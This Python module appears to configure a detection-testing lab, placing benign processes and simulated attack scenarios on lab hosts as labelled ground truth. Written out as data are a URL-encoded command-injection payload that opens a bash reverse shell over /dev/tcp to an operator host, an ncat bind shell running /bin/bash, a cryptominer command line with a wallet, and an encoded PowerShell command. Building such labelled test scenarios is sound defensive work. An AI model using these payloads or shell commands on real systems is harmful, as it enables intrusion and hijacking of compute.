"""What runs on each lab host: the benign background everywhere, and each malicious scenario on one or two hosts.

A role is one real process: a disguised interpreter (binary path), a role script, the command line it shows, and for
malicious roles the scenario, the ATT&CK techniques and the destinations that make up the ground truth. A role whose
process becomes another program (a reverse shell execs bash, a web server's user runs one) names that program as
its ``process_path``: the ground truth is what the collector sees, not what the lab started.
"""

from __future__ import annotations

import os
import shutil
from dataclasses import dataclass, field

from orchestrator.lab import plan

BENIGN_ROOT = "/opt/connhunt-lab"
# The lab's "system" binaries (its /usr/bin, /usr/sbin, /opt) live under BENIGN_ROOT, so the lab never replaces a
# real one; attacks that use the host's own programs (python3, sleep, pwsh) are played by copies there too.
SYSTEM = BENIGN_ROOT
# Reverse shells run the machine's real bash: the collector sees its real path.
BASH = os.path.realpath(shutil.which("bash") or "/bin/bash")
# Where the exfiltration scenario finds its "stolen" file; the lab writes it and removes it.
EXFIL_FILE = "/var/tmp/.q/hr_export.csv"
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"


@dataclass(frozen=True)
class Destination:
    """Where a malicious role talks: an address and port, or a domain (DNS), or a range (a scan)."""

    remote_ip: str | None = None
    remote_port: int | None = None
    domain: str | None = None
    remote_range: str | None = None
    local_port: int | None = None  # a listener of the role's own host (a bind shell): found as "port N (inbound)"


@dataclass(frozen=True)
class Role:
    name: str
    script: str
    binary: str
    title: str
    args: tuple[str, ...] = ()
    scenario: str | None = None
    techniques: tuple[str, ...] = ()
    destinations: tuple[Destination, ...] = field(default_factory=tuple)
    process_path: str | None = None  # the program the collector sees, when the role's process becomes another one
    # Other programs of the attack on its host (the shells a bind shell starts, the service a web shell runs under):
    # their findings are the attack's, never benign pairs.
    related: tuple[str, ...] = ()

    @property
    def malicious(self) -> bool:
        return self.scenario is not None

    @property
    def program(self) -> str:
        return self.process_path or self.binary


BENIGN: tuple[Role, ...] = (
    Role("web_client", "web_client.py", f"{BENIGN_ROOT}/usr/share/teams/teams",
         f"{BENIGN_ROOT}/usr/share/teams/teams --disable-gpu-sandbox"),
    Role("ssh", "ssh_client.py", f"{BENIGN_ROOT}/usr/bin/ssh",
         f"{BENIGN_ROOT}/usr/bin/ssh -o ServerAliveInterval=15 admin@jump.corp.example.org"),
    Role("ntp", "ntp_client.py", f"{BENIGN_ROOT}/usr/sbin/chronyd", f"{BENIGN_ROOT}/usr/sbin/chronyd -F 1"),
    Role("updater", "updater.py", f"{BENIGN_ROOT}/usr/bin/pkg-updater",
         f"{BENIGN_ROOT}/usr/bin/pkg-updater --daemon --check-interval 60"),
    Role("metrics", "updater.py", f"{BENIGN_ROOT}/usr/bin/telegraf",
         f"{BENIGN_ROOT}/usr/bin/telegraf --config /etc/telegraf/telegraf.conf",
         ("--name", "metrics.example.com", "--port", str(plan.METRICS_PORT), "--interval", "10",
          "--path", "/write?db=telegraf")),
    Role("browser", "browser.py", f"{BENIGN_ROOT}/usr/lib/firefox/firefox",
         f"{BENIGN_ROOT}/usr/lib/firefox/firefox -contentproc -childID 3 -isForBrowser"),
)

SCAN_RANGES = ("10.66.0.1/27", "10.66.1.0/26", "10.66.2.0/28")

MALICIOUS: tuple[Role, ...] = (
    Role("backdoor", "backdoor.py", "/tmp/.cache/kworkerd", "/tmp/.cache/kworkerd",
         ("--c2", f"{plan.C2_SERVER}:{plan.C2_PORT}", "--period", "5", "--jitter", "0.2"),
         "c2_beacon", ("T1571", "T1071"), (Destination(plan.C2_SERVER, plan.C2_PORT),)),
    Role("dns_exfil", "dns_exfil.py", "/var/tmp/dnsupd", f"/var/tmp/dnsupd -f {EXFIL_FILE}",
         ("--file", EXFIL_FILE, "--server", plan.ATTACKER_NS, "--domain", plan.EXFIL_DOMAIN),
         "dns_exfiltration", ("T1048.003", "T1071.004"),
         (Destination(plan.ATTACKER_NS, 53, plan.EXFIL_DOMAIN),)),
    Role("scanner", "scanner.py", "/tmp/.svc/svc-scan",
         f"/tmp/.svc/svc-scan -sT -T3 -p 21-23,80,135,139,443,445,3389,5985 {' '.join(SCAN_RANGES)}",
         SCAN_RANGES, "internal_scan", ("T1046",), (Destination(remote_range="10.66.0.0/16"),)),
    Role("miner", "miner.py", "/dev/shm/.x/xmrig",
         f"/dev/shm/.x/xmrig -o stratum+tcp://{plan.POOL_NAME}:{plan.POOL_PORT} -u {WALLET} -p x -k --donate-level 1",
         ("--url", f"stratum+tcp://{plan.POOL_NAME}:{plan.POOL_PORT}", "--user", WALLET),
         "cryptominer", ("T1496",), (Destination(plan.POOL_SERVER, plan.POOL_PORT, plan.POOL_NAME),)),
    Role("icmp_tunnel", "icmp_tunnel.py", "/var/tmp/.p/ptunnel", f"/var/tmp/.p/ptunnel -p {plan.ICMP_PEER} -x s3cr3t",
         ("--peer", plan.ICMP_PEER), "icmp_tunnel", ("T1095",), (Destination(plan.ICMP_PEER, 0),)),
)


PYTHON3 = f"{SYSTEM}/usr/bin/python3"
# Where the issue-9 scenarios and the benign servers sit (host index; clamped to the fleet): fixed, so ground truth
# is reproducible. The web server's clients are every other host.
WEB_SERVER_AT, SSHD_AT, DEV_SERVER_AT, DEV_PEER_AT, ADMIN_AT, DB_CLIENT_AT = 0, 5, 3, 4, 1, 7
BIND_SHELL_AT, WEB_SHELL_AT = 5, 7
VULNERABLE_CGI = "/cgi-bin/status.cgi"
# What the operator sends: a command injection in the CGI's host parameter (URL-encoded, as curl would send it).
EXPLOIT = (f"{VULNERABLE_CGI}?host=127.0.0.1%3Bbash%20-c%20%27bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F{plan.OPERATOR}"
           f"%2F{plan.WEB_SHELL_PORT}%200%3E%261%27")


def _ip(index: int, hosts: int) -> str:
    return plan.host_ip(min(index, hosts - 1))


def depth_scenarios(hosts: int) -> dict[int, Role]:
    """The issue-9 attacks, by host index: shells (reverse, pty, bind, a service account's), a LOLBin's lateral
    channel and an implant in a program that never talks."""
    bind_port = plan.BIND_SHELL_PORT
    return {
        0: Role("bash_revshell", "revshell.py", PYTHON3, "",
                ("--mode", "bash", "--to", f"{plan.OPERATOR}:{plan.BASH_SHELL_PORT}"),
                "bash_reverse_shell", ("T1059", "T1571"), (Destination(plan.OPERATOR, plan.BASH_SHELL_PORT),),
                process_path=BASH),
        2: Role("pty_revshell", "revshell.py", PYTHON3, "",
                ("--mode", "pty", "--to", f"{plan.OPERATOR}:{plan.PTY_SHELL_PORT}"),
                "pty_reverse_shell", ("T1059",), (Destination(plan.OPERATOR, plan.PTY_SHELL_PORT),)),
        BIND_SHELL_AT: Role("bind_shell", "bindshell.py", "/tmp/.n/ncat", f"/tmp/.n/ncat -lkp {bind_port} -e /bin/bash",
                            ("--port", str(bind_port)), "bind_shell", ("T1059", "T1571"),
                            (Destination(local_port=bind_port),), related=(BASH,)),
        WEB_SHELL_AT: Role(
                "web_shell", "webserver.py", f"{SYSTEM}/usr/sbin/apache2", f"{SYSTEM}/usr/sbin/apache2 -k start",
                ("--port", "80", "--user", "www-data", "--shell", f"{plan.OPERATOR}:{plan.WEB_SHELL_PORT}",
                 "--vulnerable", VULNERABLE_CGI),
                "web_shell", ("T1059", "T1505.003"), (Destination(plan.OPERATOR, plan.WEB_SHELL_PORT),),
                process_path=BASH, related=(f"{SYSTEM}/usr/sbin/apache2",)),
        1: Role("lolbin_lateral", "backdoor.py", f"{SYSTEM}/opt/microsoft/powershell/7/pwsh",
                f"{SYSTEM}/opt/microsoft/powershell/7/pwsh -NoProfile -NonInteractive -EncodedCommand "
                "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                ("--c2", f"{plan.INTERNAL_RELAY}:{plan.RELAY_PORT}", "--period", "5", "--jitter", "0.2"),
                "lolbin_lateral", ("T1021", "T1571", "T1090", "T1071"),
                (Destination(plan.INTERNAL_RELAY, plan.RELAY_PORT),)),
        3: Role("injected_sleep", "session_client.py", f"{SYSTEM}/usr/bin/sleep", f"{SYSTEM}/usr/bin/sleep 86400",
                ("--peer", f"{plan.INTERNAL_RELAY}:{plan.IMPLANT_PORT}", "--message", "beacon", "--every", "5", "9"),
                "injected_implant", ("T1055",), (Destination(plan.INTERNAL_RELAY, plan.IMPLANT_PORT),)),
    }


def benign_services(hosts: int) -> dict[int, list[Role]]:
    """Benign servers on one host each and their clients: a web server every other host fetches from, an sshd with
    an admin's interactive session, a developer's http.server with a colleague fetching, a database client."""
    web, sshd, dev = _ip(WEB_SERVER_AT, hosts), _ip(SSHD_AT, hosts), _ip(DEV_SERVER_AT, hosts)
    curl = Role("intranet_fetch", "fetcher.py", f"{SYSTEM}/usr/bin/curl",
                f"{SYSTEM}/usr/bin/curl -fsS http://{web}/status", ("--url", f"{web}:80/status"))
    placed: dict[int, list[Role]] = {i: [curl] for i in range(hosts) if i != WEB_SERVER_AT}
    extra = {
        WEB_SERVER_AT: Role("nginx", "webserver.py", f"{SYSTEM}/usr/sbin/nginx",
                            "nginx: worker process", ("--port", "80", "--user", "www-data")),
        SSHD_AT: Role("sshd", "sshd.py", f"{SYSTEM}/usr/sbin/sshd", "sshd: admin@pts/0", ("--port", "22")),
        ADMIN_AT: Role("admin_ssh", "ssh_client.py", f"{SYSTEM}/usr/bin/ssh", f"{SYSTEM}/usr/bin/ssh admin@{sshd}",
                       ("--name", sshd, "--interactive")),
        DEV_SERVER_AT: Role("dev_http", "devserver.py", PYTHON3, f"{PYTHON3} -m http.server 8000", ("--port", "8000")),
        DEV_PEER_AT: Role("dev_peer", "fetcher.py", f"{SYSTEM}/usr/bin/wget",
                          f"{SYSTEM}/usr/bin/wget -q http://{dev}:8000/index.html",
                          ("--url", f"{dev}:8000/index.html", "--every", "5", "30")),
        DB_CLIENT_AT: Role("db_client", "session_client.py", f"{SYSTEM}/usr/bin/psql",
                           f"{SYSTEM}/usr/bin/psql -h {plan.DB_SERVER} -U report -d sales",
                           ("--peer", f"{plan.DB_SERVER}:{plan.DB_PORT}",
                            "--message", "SELECT count(*) FROM orders WHERE day = current_date;")),
    }
    for index, role in extra.items():
        placed.setdefault(min(index, hosts - 1), []).append(role)
    return placed


def placement(hosts: list[str]) -> dict[str, list[Role]]:
    """Roles per host: all benign roles on every host, the benign servers and their clients where they live; each
    malicious role on one host (the beacon on two).

    Fixed positions, so ground truth is reproducible; on a small fleet two scenarios may share a host.
    """
    if len(hosts) < 6:
        raise ValueError("the lab needs at least 6 hosts, so that fleet prevalence means something")
    by_name = {r.name: r for r in MALICIOUS}
    slots = {"backdoor": [1, len(hosts) - 2], "dns_exfil": [2], "miner": [3], "scanner": [4],
             "icmp_tunnel": [min(6, len(hosts) - 1)]}
    roles = {h: list(BENIGN) for h in hosts}
    for index, placed in benign_services(len(hosts)).items():
        roles[hosts[index]].extend(placed)
    for name, indices in slots.items():
        for index in sorted(set(indices)):
            roles[hosts[index]].append(by_name[name])
    for index, role in depth_scenarios(len(hosts)).items():
        roles[hosts[min(index, len(hosts) - 1)]].append(role)
    return roles


@dataclass(frozen=True)
class Operator:
    """The attacker's own process on the operator's box (no collector): connects in to a bind shell."""

    name: str
    script: str
    args: tuple[str, ...]


def operators(hosts: int) -> tuple[Operator, ...]:
    return (Operator("operator-bind", "operator.py",
                     ("--target", f"{_ip(BIND_SHELL_AT, hosts)}:{plan.BIND_SHELL_PORT}", "--source", plan.OPERATOR)),
            Operator("operator-exploit", "operator.py",
                     ("--target", f"{_ip(WEB_SHELL_AT, hosts)}:80", "--source", plan.OPERATOR, "--exploit", EXPLOIT)))


def role_binaries(hosts: int = 10) -> list[str]:
    """Every binary the lab installs (a copy of the interpreter each)."""
    placed = placement(plan.host_names(hosts))
    return sorted({r.binary for roles in placed.values() for r in roles} | {r.binary for r in (*BENIGN, *MALICIOUS)})
